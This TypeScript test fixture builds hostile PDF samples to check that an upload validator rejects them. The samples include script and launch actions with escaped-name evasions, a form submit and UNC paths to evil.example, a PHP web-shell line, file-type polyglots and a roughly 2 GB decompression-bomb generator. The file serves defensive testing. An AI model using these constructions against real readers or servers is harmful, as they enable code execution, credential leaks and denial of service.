import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { CANARY, type Hostile } from '#test/input/hostile.ts'
import { CATALOG, edited, objectStream, PAGE, plainPdf, stream } from '#test/input/plain-pdfs.ts'

const text = (value: string) => Buffer.from(value, 'latin1')
const notPdf = async (bytes: Buffer) => ({ bytes, reason: 'bioDataNotPdf' as const })
const encrypted = async (bytes: Buffer) => ({ bytes, reason: 'bioDataEncrypted' as const })
const notPlain = async (bytes: Buffer) => ({ bytes, reason: 'bioDataNotPlain' as const })
const kept = async (bytes: Buffer) => ({ bytes, reason: null })

const LOCK = '<< /Filter /Standard /V 2 /R 3 /Length 128 /O <00> /U <00> /P -44 >>'

/** A small PDF as bytes, with additions in its trailer or before its cross-references. */
function pdf({ trailer = '', object = '' } = {}): Buffer {
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', object || LOCK]
  let body = '%PDF-1.7\n'
  const places = objects.map((content, i) => {
    const at = body.length
    body += `${i + 1} 0 obj\n${content}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const xref = body.length
  const table = `xref\n0 4\n0000000000 65535 f \n${places.join('')}`
  return text(`${body}${table}trailer\n<< /Size 4 /Root 1 0 R ${trailer} >>\nstartxref\n${xref}\n%%EOF\n`)
}

/** A PDF with a cross-reference stream, with additions in its dictionary. */
function streamPdf(dictionary = ''): Buffer {
  const body = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n`
  const stream = `3 0 obj\n<< /Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R ${dictionary} /Length 4 >>\nstream\nabcd\nendstream\nendobj\n`
  return text(`${body}${stream}startxref\n${body.length}\n%%EOF`)
}

/** The same with an incremental update whose trailer no longer names the encryption of the first revision. */
function lockedThenUpdated(): Buffer {
  const first = pdf({ trailer: '/Encrypt 3 0 R' }).toString('latin1')
  const xref = `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev ${first.lastIndexOf('xref\n0')} >>`
  return text(`${first}${xref}\nstartxref\n${first.length}\n%%EOF`)
}

const SCRIPT = `<< /S /JavaScript /JS (app.alert("${CANARY}")) >>`
const address = (value: string) => `<< /S /URI /URI (${value}) >>`
const LAUNCH = `<< /S /Launch /F (cmd.exe ${CANARY}) >>`
const hiddenIn = (contents: string) => plainPdf({ more: [stream('', contents)] })
const zipEnd = (comment: number) =>
  `PK\u0005\u0006${'\u0000'.repeat(16)}${String.fromCharCode(comment & 255, comment >> 8)}`

async function withScript(useObjectStreams: boolean): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage().drawText(CANARY)
  document.addJavaScript('run', `app.alert("${CANARY}")`)
  return Buffer.from(await document.save({ useObjectStreams }))
}

async function withFile(useObjectStreams: boolean): Promise<Buffer> {
  const document = await PDFDocument.create()
  document.addPage()
  await document.attach(text(`MZ${CANARY}`), 'program.exe', { mimeType: 'application/octet-stream' })
  return Buffer.from(await document.save({ useObjectStreams }))
}

/** PDFs with active content: a script, a program, a form that is submitted, an embedded file. */
const ACTIVE: Record<string, () => Buffer | Promise<Buffer>> = {
  'a script by name, written by a library': () => withScript(false),
  'a script by name in an object stream': () => withScript(true),
  'a file inside, written by a library': () => withFile(false),
  'a file inside, in an object stream': () => withFile(true),
  'a script when opened': () => plainPdf({ catalog: `/OpenAction ${SCRIPT}` }),
  'a script when opened, by reference': () => plainPdf({ catalog: '/OpenAction 4 0 R', more: [SCRIPT] }),
  'a script when closed': () => plainPdf({ catalog: `/AA << /WC ${SCRIPT} >>` }),
  'a script of a page': () => plainPdf({ page: `/AA << /O ${SCRIPT} >>` }),
  'a script of an annotation': () =>
    plainPdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${SCRIPT} >>]` }),
  'a script of an annotation, by reference': () =>
    plainPdf({ page: '/Annots 4 0 R', more: ['[5 0 R]', '<< /Subtype /Link /A 6 0 R >>', SCRIPT] }),
  'a script of a form field': () =>
    plainPdf({ page: `/Annots [<< /Subtype /Widget /FT /Tx /AA << /K ${SCRIPT} /F ${SCRIPT} >> >>]` }),
  'a script after another action': () =>
    plainPdf({ catalog: `/OpenAction << /S /URI /URI (https://example.in) /Next [${SCRIPT}] >>` }),
  'a script nested in arrays': () => plainPdf({ more: [`[[[[<< /A [[${SCRIPT}]] >>]]]]`] }),
  'a script of an outline': () => plainPdf({ more: [`<< /Title (One) /A ${SCRIPT} >>`] }),
  'a script in a names tree': () => plainPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  'a script, the value with escapes': () => plainPdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (1) >>' }),
  'a script, all of it escaped': () =>
    plainPdf({ catalog: '/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /JS (1) >>' }),
  'a script, escapes in small letters': () => plainPdf({ catalog: '/OpenAction << /S /#4aavaScript /JS (1) >>' }),
  'a script, the key escaped': () => plainPdf({ catalog: '/OpenAction << /#53 /JavaScript /JS (1) >>' }),
  'a script, a comment between key and value': () =>
    plainPdf({ catalog: '/OpenAction << /S%x\n/JavaScript /JS (1) >>' }),
  'a script, no space between key and value': () => plainPdf({ catalog: '/OpenAction<</S/JavaScript/JS(1)>>' }),
  'a script, the value an object of its own': () =>
    plainPdf({ catalog: '/OpenAction << /S 4 0 R /JS (1) >>', more: ['/JavaScript'] }),
  'a script, the key twice': () => plainPdf({ catalog: '/OpenAction << /S /JavaScript /S /URI /JS (1) >>' }),
  'a script in an object stream': () => plainPdf({ more: [objectStream([SCRIPT], 9)] }),
  'a script in an object stream, escaped': () =>
    plainPdf({ more: [objectStream(['<< /S /#4AavaScript /JS (1) >>'], 9)] }),
  'a script in an object stream, escaped in small letters': () =>
    plainPdf({ more: [objectStream(['<< /S /#4aavaScript /JS (1) >>'], 9)] }),
  'a script in an object stream, the key twice': () =>
    plainPdf({ more: [objectStream(['<< /S /JavaScript /S /URI /JS (1) >>'], 9)] }),
  'a script in an object stream, as an object of its own': () =>
    plainPdf({ more: [objectStream(['<< /S 10 0 R /JS (1) >>', '/JavaScript'], 9)] }),
  'a script in the second of two object streams': () =>
    plainPdf({ more: [objectStream(['<< >>'], 9), objectStream(['[1 2]', SCRIPT], 10)] }),
  'a script that a later edition adds': () => edited(plainPdf({}), { 1: CATALOG('/OpenAction 9 0 R'), 9: SCRIPT }),
  'a script that a later edition takes away': () =>
    edited(plainPdf({ catalog: `/OpenAction ${SCRIPT}` }), { 1: CATALOG() }),
  'a script in an object stream that a later edition replaces': () =>
    edited(plainPdf({ more: [objectStream([SCRIPT], 9)] }), { 4: '<< >>', 9: '<< >>' }),
  'a script in the third edition': () =>
    edited(edited(plainPdf({}), { 3: PAGE() }), { 3: PAGE(`/AA << /O ${SCRIPT} >>`) }),
  'a script in an object that the table does not name': () => plainPdf({ early: `9 0 obj\n${SCRIPT}\nendobj\n` }),
  'a script inside a stream, where the table may point': () => hiddenIn(`9 0 obj\n${SCRIPT}\nendobj`),
  'a script of a rendition': () => plainPdf({ catalog: '/OpenAction << /S /Rendition /OP 0 /JS (1) >>' }),
  'a program when opened': () => plainPdf({ catalog: `/OpenAction ${LAUNCH}` }),
  'a program of an annotation': () => plainPdf({ page: `/Annots [<< /Subtype /Link /A ${LAUNCH} >>]` }),
  'a program in an object stream': () => plainPdf({ more: [objectStream([LAUNCH], 9)] }),
  'a program, the value escaped': () => plainPdf({ catalog: '/OpenAction << /S /L#61unch /F (x) >>' }),
  'a program for one system': () =>
    plainPdf({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' }),
  'a form that is sent': () => plainPdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
  'a form that is filled from outside': () => plainPdf({ catalog: '/OpenAction << /S /ImportData /F (x.fdf) >>' }),
  'a form of another kind': () =>
    plainPdf({ catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', more: [stream('', '<a/>')] }),
  'another file that is opened': () =>
    plainPdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>' }),
  'a file inside that is opened': () => plainPdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>' }),
  'a film': () => plainPdf({ page: '/Annots [<< /Subtype /Screen /Rect [0 0 9 9] >>]' }),
  'a rich film': () => plainPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }),
  'a thing in three dimensions': () => plainPdf({ page: '/Annots [<< /Subtype /3D /Rect [0 0 9 9] >>]' }),
  'a file pinned to a page': () =>
    plainPdf({ page: '/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]', more: ['<< >>'] }),
  'a file inside without a type': () =>
    plainPdf({ more: ['<< /F (a.exe) /EF << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
  'a file inside, its key escaped': () =>
    plainPdf({ more: ['<< /UF (a.exe) /#45#46 << /F 5 0 R >> >>', stream('', `MZ${CANARY}`)] }),
  'a file inside, that no page names': () => plainPdf({ more: [stream('/Type /EmbeddedFile', `MZ${CANARY}`)] }),
  'an address of this computer': () => plainPdf({ catalog: `/OpenAction ${address('file:///C:/Windows/calc.exe')}` }),
  'an address of the network': () => plainPdf({ catalog: `/OpenAction ${address('\\\\\\\\evil.example\\\\share')}` }),
  'a script as an address': () =>
    plainPdf({ page: `/Annots [<< /Subtype /Link /A ${address('javascript:alert(1)')} >>]` }),
  'a script as an address, with a line break': () =>
    plainPdf({ page: `/Annots [<< /Subtype /Link /A ${address('java\\nscript:alert(1)')} >>]` }),
  'an address that is an object of its own': () =>
    plainPdf({ catalog: '/OpenAction << /S /URI /URI 4 0 R >>', more: ['(file:///etc/passwd)'] }),
  'a stream whose data is in another file': () => plainPdf({ more: [stream('/F (\\\\\\\\evil.example\\\\x)', '')] }),
  'a drawing from another file': () =>
    plainPdf({ more: [stream('/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (x.pdf) /Page 0 >>', '')] }),
  'a folder of files': () => plainPdf({ catalog: '/Collection << /View /D >>' }),
}

/** PDFs that another program opens as another file type. */
const POLYGLOTS: Record<string, () => Buffer> = {
  'a web page in a comment': () => plainPdf({ early: `%<html><script>alert("${CANARY}")</script></html>\n` }),
  'a web page in a stream': () => hiddenIn(`<!DOCTYPE html><html><body>${CANARY}</body></html>`),
  'a web page in a text': () => plainPdf({ more: [`(<SCRIPT >alert("${CANARY}")</SCRIPT>)`] }),
  'a drawing with a script': () => hiddenIn(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">`),
  'a page of PHP': () => plainPdf({ early: '%<?php system($_GET["c"]); ?>\n' }),
  'a ZIP in its last stream': () => hiddenIn(`PK\u0003\u0004${CANARY}PK\u0001\u0002${zipEnd(300)}`),
  'a ZIP with the rest as its comment': () => plainPdf({ more: [`(${zipEnd(1)})`] }),
  'a RAR in a stream': () => hiddenIn(`Rar!\u001a\u0007\u0001${CANARY}`),
  'a 7z in a stream': () => hiddenIn(`7z\u00bc\u00af\u0027\u001c${CANARY}`),
  'a disk image': () => {
    const bytes = plainPdf({ more: [stream('', 'x'.repeat(40_000))] })
    bytes.write('CD001', 32_769)
    return bytes
  },
  'a tape archive': () => {
    const bytes = plainPdf({ early: `%${'x'.repeat(400)}\n` })
    bytes.write('ustar', 257)
    return bytes
  },
}

/** Object streams that parsers read differently, or that are made to slow down the parser. */
const UNREADABLE: Hostile = {
  'an object stream with a predictor': () =>
    notPdf(plainPdf({ more: [objectStream([SCRIPT], 9, '/DecodeParms << /Predictor 12 /Columns 4 >>')] })),
  'an object stream that is not compressed as it says': () =>
    notPdf(plainPdf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /Unknown', '9 0 << >>')] })),
  'an object stream without a type': () => notPdf(untyped('')),
  'an object stream of another type': () => notPdf(untyped('/Type /XObject /Subtype /Image ')),
  'an object stream whose type is an object of its own': () => notPdf(untyped('/Type 5 0 R ', ['/Object#53tm'])),
  'an object stream inside a stream': () => notPlain(hiddenIn(`9 0 obj\n${objectStream([SCRIPT], 10)}\nendobj`)),
  'an object stream that unpacks to 2 GB': async () => ({
    bytes: plainPdf({ more: [bomb()] }),
    reason: 'fileTooHard',
  }),
}

/** Viewers read an object stream that their table names, whatever its type. */
const untyped = (type: string, more: string[] = []) =>
  plainPdf({ more: [objectStream([SCRIPT], 9).replace('/Type /ObjStm ', type), ...more] })

/** Zeros compressed twice, so that the upload is small. */
function bomb(): string {
  const part = deflateRawSync(Buffer.alloc(20_000_000), { finishFlush: constants.Z_FULL_FLUSH })
  const once = Buffer.concat([Buffer.from([0x78, 0x9c]), ...Array(100).fill(part), Buffer.from([3, 0, 0, 0, 0, 0])])
  return stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(once).toString('latin1'))
}

const each = (made: Record<string, () => Buffer | Promise<Buffer>>): Hostile =>
  Object.fromEntries(Object.entries(made).map(([name, make]) => [name, async () => notPlain(await make())]))

/** PDFs that are encrypted, broken, not PDFs, or more than a document to view. */
export const HOSTILE_PDFS: Hostile = {
  ...each(ACTIVE),
  ...each(POLYGLOTS),
  ...UNREADABLE,
  'locked by the trailer': () => encrypted(pdf({ trailer: '/Encrypt 3 0 R' })),
  'locked by a dictionary in the trailer': () => encrypted(pdf({ trailer: `/Encrypt ${LOCK}` })),
  'locked, the key written with escapes': () => encrypted(pdf({ trailer: '/#45ncr#79pt 3 0 R' })),
  'locked, a comment behind the key': () => encrypted(pdf({ trailer: '/Encrypt%\n3 0 R' })),
  'locked by a stream of cross-references': () => encrypted(streamPdf('/Encrypt 2 0 R')),
  'locked, then updated': () => encrypted(lockedThenUpdated()),
  'header and end alone': () => notPdf(text(`%PDF-1.7\n${CANARY}\n%%EOF`)),
  'header alone': () => notPdf(text('%PDF-1.4\n')),
  'no end': () => notPdf(pdf().subarray(0, -8)),
  'half of it': () => notPdf(pdf().subarray(0, 200)),
  'cross-references that are not there': () =>
    notPdf(
      text(
        pdf()
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n3'),
      ),
    ),
  'cross-references beyond the file': () =>
    notPdf(
      text(
        pdf()
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n999999'),
      ),
    ),
  'no trailer': () => notPdf(text(pdf().toString('latin1').replace('trailer', 'trail'))),
  'no root': () => notPdf(text(pdf().toString('latin1').replace('/Root', '/Tree'))),
  'something before the header': () => notPdf(Buffer.concat([text(`<script>${CANARY}</script>`), pdf()])),
  'a page behind it': () => notPdf(Buffer.concat([pdf(), text(`<html>${CANARY}</html>`)])),
  'a ZIP behind it': () => notPdf(Buffer.concat([pdf(), text('PK\u0003\u0004'), Buffer.alloc(3000, 1)])),
  HTML: () => notPdf(text(`<html>%PDF-1.7 <script>${CANARY}</script></html>`)),
  'a Word file': () => notPdf(Buffer.concat([text('PK\u0003\u0004'), Buffer.alloc(500)])),
  'a picture': () => notPdf(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16])),
  'nothing at all': () => notPdf(Buffer.alloc(0)),
  'one with a stream of cross-references': () => kept(streamPdf()),
}

/** A PDF of the given size in bytes. */
export function pdfOfSize(size: number): Buffer {
  const rest = pdf({ object: '()' }).length
  let made = pdf({ object: `(${'x'.repeat(size - rest)})` })
  // The offsets in the table may get another digit.
  if (made.length !== size) made = pdf({ object: `(${'x'.repeat(size - rest - (made.length - size))})` })
  return made
}
